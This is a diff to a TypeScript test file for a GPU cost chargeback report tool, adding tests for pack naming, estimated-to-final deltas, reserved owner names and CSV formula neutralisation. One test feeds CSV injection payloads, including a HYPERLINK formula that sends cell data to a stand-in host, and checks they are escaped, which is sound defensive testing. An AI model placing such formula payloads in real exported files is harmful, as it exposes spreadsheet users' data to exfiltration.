@@ -1,9 +1,11 @@
 /**
  * Chargeback packs on the real engine: the CSV ties out to pool_cost under
  * every idle policy and basis, spread matches cpp_daily plus the hours
- * without traffic, estimated -> final writes a delta, packs are immutable.
+ * without traffic, estimated -> final writes a delta, packs are immutable
+ * and named per basis, reserved owner names stop a report, and no CSV cell
+ * starts a formula.
  */
-import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, renameSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -19,6 +21,7 @@ import { runChargebackReport } from '../src/report/run-report.js';
 import { toScaled } from '../src/util/decimal.js';
 import type { Warehouse } from '../src/warehouse/warehouse.js';
 import { settings } from './helpers/attribution.js';
+import { formatDateTime64, REQUEST_COLUMNS, serializeRequestRow } from '../src/events/request-event.js';
 import { billingLine, DAY0, HOUR, insertBilling, insertRequests, type TestRequest } from './helpers/data.js';
 import { tempDir } from './helpers/files.js';
 import { discardWarehouse, freshWarehouse, TEST_DATA_DIR } from './helpers/warehouse.js';
@@ -95,7 +98,7 @@ describe('report chargeback', () => {
         const dir = join(out, basis);
         const { pack, report } = await runChargebackReport(w, config({ pools: { 'gpu-a': { owner: 'platform' } } }), { month: OCTOBER, by: 'team', idle, basis, outDir: dir, now: AFTER_OCTOBER });
         expect(pack.written).toBe(true);
-        expect(pack.dir).toBe(join(dir, '2026-10', `team-${idle}-final`));
+        expect(pack.dir).toBe(join(dir, '2026-10', `team-${idle}-${basis}-final`));
         const rows = readCsv(join(pack.dir, 'chargeback.csv'));
         expect(units(rows)).toBe(billed);
         // cost = used + idle on every line, as exact text.
@@ -218,7 +221,7 @@ describe('report chargeback', () => {
     await attribute();
     const final = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
     expect(final.report.status).toBe('final');
-    expect(final.pack.dir).toBe(join(out, '2026-10', 'team-spread-final'));
+    expect(final.pack.dir).toBe(join(out, '2026-10', 'team-spread-effective-final'));
     expect(final.pack.files).toContain('delta.csv');
     expect(existsSync(join(first.pack.dir, 'chargeback.csv'))).toBe(true);
     const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(final.pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
@@ -231,13 +234,142 @@ describe('report chargeback', () => {
     expect(deltaTotal).toBe(toScaled('2'));
   });
 
+  it('packs of the two bases sit side by side, each final pack with the delta against its own estimated pack', async () => {
+    await insertBilling(w, [billingLine({ effective_cost: '10', billed_cost: '12', is_estimated: true })]);
+    await insertRequests(w, [{ id: 'a', ts: DAY0 + 1, team: 'search' }, { id: 'b', ts: DAY0 + 2, team: 'chat', gpuMs: 300 }]);
+    const build = async (basis: 'effective' | 'billed'): Promise<Awaited<ReturnType<typeof runChargebackReport>>> => {
+      await attribute(basis);
+      return runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', basis, outDir: out, now: AFTER_OCTOBER });
+    };
+    for (const basis of ['effective', 'billed'] as const) {
+      const run = await build(basis);
+      expect(run.report.status).toBe('estimated');
+      expect(run.pack).toMatchObject({ dir: join(out, '2026-10', `team-spread-${basis}-estimated`), written: true });
+    }
+    // The final bill: effective 11, billed 15.
+    await insertBilling(w, [billingLine({ effective_cost: '11', billed_cost: '15' })]);
+    const want = {
+      effective: [['chat', '7.500000000000', '8.250000000000', '0.750000000000'], ['search', '2.500000000000', '2.750000000000', '0.250000000000']],
+      billed: [['chat', '9.000000000000', '11.250000000000', '2.250000000000'], ['search', '3.000000000000', '3.750000000000', '0.750000000000']],
+    };
+    for (const basis of ['effective', 'billed'] as const) {
+      const run = await build(basis);
+      expect(run.report.status).toBe('final');
+      expect(run.pack.dir).toBe(join(out, '2026-10', `team-spread-${basis}-final`));
+      expect(run.pack.files).toEqual(['chargeback.csv', 'delta.csv', 'focus-allocated.csv', 'report.html', 'summary.json']);
+      const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(run.pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
+      expect(delta.map((d) => [d.owner, d.estimated_cost, d.final_cost, d.delta_cost])).toEqual(want[basis]);
+    }
+    expect(readdirSync(join(out, '2026-10')).sort()).toEqual(['team-spread-billed-estimated', 'team-spread-billed-final', 'team-spread-effective-estimated', 'team-spread-effective-final']);
+  });
+
+  it('a final pack takes its delta from an estimated pack named without the basis, when its summary has the same basis', async () => {
+    await insertBilling(w, [billingLine({ effective_cost: '10', billed_cost: '12', is_estimated: true })]);
+    await insertRequests(w, [{ id: 'a', ts: DAY0 + 1, team: 'search' }, { id: 'b', ts: DAY0 + 2, team: 'chat', gpuMs: 300 }]);
+    await attribute();
+    const first = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
+    renameSync(first.pack.dir, join(out, '2026-10', 'team-spread-estimated'));
+    await insertBilling(w, [billingLine({ effective_cost: '11', billed_cost: '15' })]);
+    await attribute('billed');
+    const billed = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', basis: 'billed', outDir: out, now: AFTER_OCTOBER });
+    expect(billed.pack.files).not.toContain('delta.csv');
+    await attribute('effective');
+    const effective = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', basis: 'effective', outDir: out, now: AFTER_OCTOBER });
+    const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(effective.pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
+    expect(delta.map((d) => [d.owner, d.estimated_cost, d.final_cost])).toEqual([['chat', '7.500000000000', '8.250000000000'], ['search', '2.500000000000', '2.750000000000']]);
+  });
+
+  it('stops, writing nothing, when a team or tenant stored before names were checked is a reserved owner name', async () => {
+    await insertBilling(w, [billingLine({ effective_cost: '10' })]);
+    await insertRequests(w, [{ id: 'ok', ts: DAY0 + 1, team: 'search', tenant: 'acme' }]);
+    // Written straight to the table, as events ingested before the rule were.
+    const raw = [
+      { request_id: 'r1', team: '(idle)', tenant_id: 'acme' },
+      { request_id: 'r2', team: 'chat', tenant_id: ' (Unallocated) ' },
+    ].map((r, i) => serializeRequestRow(
+      { ...r, ts: DAY0 + 10 + i, model_id: 'm1', feature_id: 'f1', pool_id: 'gpu-a', gpu_ms: 100, input_tokens: 0, output_tokens: 0, status: 'ok' },
+      {}, 'test', formatDateTime64(Date.now()),
+    ));
+    await w.insertCompact('inference_requests', REQUEST_COLUMNS, `${raw.join('\n')}\n`);
+    await attribute();
+    const team = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'separate', outDir: out, now: AFTER_OCTOBER }).catch((e: unknown) => e);
+    expect(team).toBeInstanceOf(ReportError);
+    expect((team as Error).message).toBe(
+      'team "(idle)" (1 request in 2026-10) is a reserved owner name: "(idle)" and "(unallocated)", in any case or spacing, name the idle and untagged lines of the report. ' +
+        'Rename it in the stored requests (`inferledger sql --write "ALTER TABLE inference_requests UPDATE team = {to:String} WHERE team = {from:String} SETTINGS mutations_sync = 2" ' +
+        '--param from=<name> --param to=<new name>`), then `inferledger attribute --from 2026-10-01 --to 2026-11-01`; nothing was written',
+    );
+    const tenant = await runChargebackReport(w, config(), { month: OCTOBER, by: 'tenant', idle: 'separate', outDir: out, now: AFTER_OCTOBER }).catch((e: unknown) => e);
+    expect(tenant).toBeInstanceOf(ReportError);
+    expect((tenant as Error).message).toMatch(/^tenant_id " \(Unallocated\) " \(1 request in 2026-10\) is a reserved owner name/);
+    expect(readdirSync(out)).toEqual([]);
+
+    // The way out the message gives.
+    const lines: string[] = [];
+    const io = { out: (l: string) => lines.push(l), err: (l: string) => lines.push(l), env: { INFERLEDGER_DATA_DIR: TEST_DATA_DIR, CLICKHOUSE_DATABASE: w.database } };
+    const rename = 'ALTER TABLE inference_requests UPDATE team = {to:String} WHERE team = {from:String} SETTINGS mutations_sync = 2';
+    expect(await main(['sql', '--write', rename, '--param', 'from=(idle)', '--param', 'to=platform'], io)).toBe(EXIT.ok);
+    await attribute();
+    const { pack } = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'separate', outDir: out, now: AFTER_OCTOBER });
+    expect(readCsv(join(pack.dir, 'chargeback.csv')).map((r) => [r.owner, r.requests])).toEqual([['chat', '1'], ['platform', '1'], ['search', '1'], ['(idle)', '0']]);
+  });
+
+  it('neutralises formulas in every text cell of the CSV files and leaves numbers, negative ones too, as they are', async () => {
+    const link = '=HYPERLINK("http://x.example/?d="&A1,"click")';
+    // Estimated: gpu-a 10 and an untagged credit of -1.5; final: gpu-a 8.
+    await insertBilling(w, [billingLine({ pool: '@pool', effective_cost: '10', is_estimated: true }), billingLine({ pool: '', effective_cost: '-1.5', charge_category: 'Credit', instance_type: '' })]);
+    await insertRequests(w, [
+      { id: 'a', ts: DAY0 + 1, pool: '@pool', team: link, tenant: '\t=1+1', model: '+1', feature: '@SUM(A1)', version: '-rc1', gpuMs: 100 },
+      { id: 'b', ts: DAY0 + 2, pool: '@pool', team: '-2+3', tenant: "'=kept", model: 'm', feature: 'f', gpuMs: 300 },
+    ]);
+    await attribute();
+    const estimated = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
+    expect(estimated.report.status).toBe('estimated');
+    await insertBilling(w, [billingLine({ pool: '@pool', effective_cost: '8' }), billingLine({ pool: '', effective_cost: '-1.5', charge_category: 'Credit', instance_type: '' })]);
+    await attribute();
+    const { pack } = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
+    expect(pack.files).toContain('delta.csv');
+
+    const text = readFileSync(join(pack.dir, 'chargeback.csv'), 'utf8');
+    expect(text).toContain(`2026-10,"'=HYPERLINK(""http://x.example/?d=""&A1,""click"")",'+1,'@SUM(A1),1,0,0,`);
+    expect(readCsv(join(pack.dir, 'chargeback.csv')).map((r) => [r.owner, r.model_id, r.feature_id, r.requests, r.cost, r.cpp])).toEqual([
+      ["'-2+3", 'm', 'f', '1', '6.000000000000', '6.000000000000'],
+      [`'${link}`, "'+1", "'@SUM(A1)", '1', '2.000000000000', '2.000000000000'],
+      ['(unallocated)', '', '', '0', '-1.500000000000', ''],
+    ]);
+
+    const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
+    expect(delta.map((d) => [d.owner, d.model_id, d.feature_id, d.estimated_cost, d.final_cost, d.delta_cost])).toEqual([
+      ["'-2+3", 'm', 'f', '7.500000000000', '6.000000000000', '-1.500000000000'],
+      [`'${link}`, "'+1", "'@SUM(A1)", '2.500000000000', '2.000000000000', '-0.500000000000'],
+      ['(unallocated)', '', '', '-1.500000000000', '-1.500000000000', '0.000000000000'],
+    ]);
+
+    const focus = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(pack.dir, 'focus-allocated.csv'), 'utf8'), { columns: true }));
+    const used = focus.filter((r) => r.AllocatedMethodId === 'inferledger-gpu-time-used');
+    expect(used.map((r) => [r.ResourceId, r.AllocatedResourceId, r.x_ModelVersion, r.x_Requests])).toEqual([
+      ["'@pool", "'@pool/m//f/'=kept", '', '1'],
+      ["'@pool", "'@pool/+1/-rc1/@SUM(A1)/\t=1+1", "'-rc1", '1'],
+    ]);
+    expect(focus.filter((r) => r.AllocatedMethodId === '').map((r) => r.EffectiveCost)).toEqual(['-1.500000000000']);
+    expect(focus.reduce((a, r) => a + toScaled(r.EffectiveCost ?? ''), 0n)).toBe(toScaled('6.5'));
+    // No cell of any file starts a formula.
+    for (const file of ['chargeback.csv', 'delta.csv', 'focus-allocated.csv']) {
+      const cells = z.array(z.array(z.string())).parse(parse(readFileSync(join(pack.dir, file), 'utf8')));
+      for (const cell of cells.flat()) expect(/^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell), `${file}: ${JSON.stringify(cell)}`).toBe(false);
+    }
+
+    const byTenant = await runChargebackReport(w, config(), { month: OCTOBER, by: 'tenant', idle: 'separate', outDir: out, now: AFTER_OCTOBER });
+    expect(readCsv(join(byTenant.pack.dir, 'chargeback.csv')).map((r) => r.owner)).toEqual(["'\t=1+1", "'=kept", '(idle)', '(unallocated)']);
+  });
+
   it('the CLI writes the pack and says where; a bad month is a usage error', async () => {
     await seedMonth();
     await attribute();
     const lines: string[] = [];
     const io = { out: (l: string) => lines.push(l), err: (l: string) => lines.push(l), env: { INFERLEDGER_DATA_DIR: TEST_DATA_DIR, CLICKHOUSE_DATABASE: w.database } };
     expect(await main(['report', 'chargeback', '--month', '2026-10', '--by', 'team', '--out', out], io)).toBe(EXIT.ok);
-    expect(lines.join('\n')).toContain(`pack written to ${join(out, '2026-10', 'team-spread-')}`);
+    expect(lines.join('\n')).toContain(`pack written to ${join(out, '2026-10', 'team-spread-effective-')}`);
     expect(lines.join('\n')).toMatch(/USD: billed 45\.500000000000 = allocated 40\.000000000000 \+ idle 4\.000000000000 \+ unallocated 1\.500000000000/);
     expect(await main(['report', 'chargeback', '--month', '2026-13', '--by', 'team'], io)).toBe(EXIT.usage);
   });
